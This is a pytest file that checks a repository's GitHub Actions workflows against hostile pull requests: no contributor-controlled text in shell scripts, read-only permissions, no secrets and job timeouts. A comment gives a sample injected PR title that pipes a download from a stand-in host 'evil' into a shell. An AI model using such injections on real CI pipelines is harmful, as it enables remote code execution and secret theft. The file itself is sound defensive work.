"""CI against a hostile pull request: nothing a contributor controls is pasted into a shell, no job can write."""

from __future__ import annotations

import re
from pathlib import Path

import pytest
import yaml

WORKFLOWS = sorted((Path(__file__).resolve().parents[1] / ".github" / "workflows").glob("*.y*ml"))
# Expressions a pull request's author controls (title, body, branch name, commit messages, labels...).
CONTRIBUTOR_CONTROLLED = re.compile(
    r"github\.(event\.(pull_request|issue|comment|review|head_commit|commits|pages)|head_ref)"
    r"(?!\.number\b)"
)


def _doc(path: Path) -> dict:
    doc = yaml.load(path.read_text(encoding="utf-8"), Loader=yaml.BaseLoader)  # 'on' stays a string key
    assert isinstance(doc, dict)
    return doc


def test_there_are_workflows() -> None:
    assert WORKFLOWS


@pytest.mark.parametrize("path", WORKFLOWS, ids=lambda p: p.name)
def test_no_contributor_text_is_interpolated_into_a_script(path) -> None:
    # `run: echo "${{ github.event.pull_request.title }}"` executes a title such as `"; curl evil | sh; "`.
    for job_name, job in _doc(path)["jobs"].items():
        for step in job.get("steps", []):
            for key in ("run", "script"):
                text = step.get(key) or step.get("with", {}).get(key) or ""
                for expr in re.findall(r"\$\{\{(.*?)\}\}", text):
                    assert not CONTRIBUTOR_CONTROLLED.search(expr), f"{path.name}:{job_name}: {expr.strip()}"


@pytest.mark.parametrize("path", WORKFLOWS, ids=lambda p: p.name)
def test_jobs_that_run_for_pull_requests_cannot_write(path) -> None:
    doc = _doc(path)
    triggers = doc["on"] if isinstance(doc["on"], (dict, list)) else [doc["on"]]
    assert "pull_request_target" not in triggers and "workflow_run" not in triggers
    if "pull_request" not in triggers:
        return
    top = doc.get("permissions")
    assert top in ({}, "{}", {"contents": "read"}, "read-all"), top
    for job_name, job in doc["jobs"].items():
        perms = job.get("permissions", {})
        assert all(v in ("read", "none") for v in (perms.values() if isinstance(perms, dict) else [])), job_name
        text = yaml.safe_dump(job)
        assert "secrets." not in text, f"{job_name} uses a secret in a pull-request workflow"


@pytest.mark.parametrize("path", WORKFLOWS, ids=lambda p: p.name)
def test_every_job_has_a_time_limit(path) -> None:
    # A contributor's code (tests, build) must not hold a runner forever.
    for job_name, job in _doc(path)["jobs"].items():
        assert "timeout-minutes" in job, job_name
